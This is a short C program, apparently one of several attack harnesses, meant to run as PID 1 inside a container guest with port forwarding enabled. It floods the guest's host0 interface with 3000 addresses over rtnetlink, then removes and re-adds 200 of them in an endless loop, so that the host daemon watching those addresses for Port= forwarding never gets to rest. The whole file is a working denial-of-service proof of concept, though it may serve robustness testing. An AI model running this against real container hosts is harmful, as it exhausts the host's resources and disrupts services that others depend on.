/* PID 1 that says READY=1, gives itself 3000 addresses on host0, and then takes away and gives back 200 of them without end, so that
 * the daemon, which watches them for Port=, always has something to do. It serves nobody and has no handler for any signal.
 *
 * guest: [Network] Private=yes
 * guest: [Network] VirtualEthernet=yes
 * guest: [Network] Port=28081:80
 */
#include <arpa/inet.h>
#include <linux/rtnetlink.h>
#include <net/if.h>

#include "attack.h"

enum { ALL = 3000, TOGGLED = 200 };

/* Adds or deletes 10.9.HIGH.LOW/32, and waits for the kernel's answer. */
static void address(int netlink, int type, unsigned number) {
  struct {
    struct nlmsghdr header;
    struct ifaddrmsg message;
    struct rtattr attribute;
    struct in_addr address;
  } request = {
    .header = {.nlmsg_len = sizeof request, .nlmsg_type = type, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE},
    .message = {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = if_nametoindex("host0")},
    .attribute = {.rta_len = RTA_LENGTH(4), .rta_type = IFA_LOCAL},
    .address = {htonl(0x0a090000 + number)},
  };
  char answer[1024];
  if (send(netlink, &request, sizeof request, 0) > 0) (void)!recv(netlink, answer, sizeof answer, 0);
}

int main(void) {
  int netlink = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  for (unsigned number = 1; number <= ALL; number++) address(netlink, RTM_NEWADDR, number);
  say_ready();
  for (;;) {
    for (unsigned number = 1; number <= TOGGLED; number++) address(netlink, RTM_DELADDR, number);
    for (unsigned number = 1; number <= TOGGLED; number++) address(netlink, RTM_NEWADDR, number);
  }
}
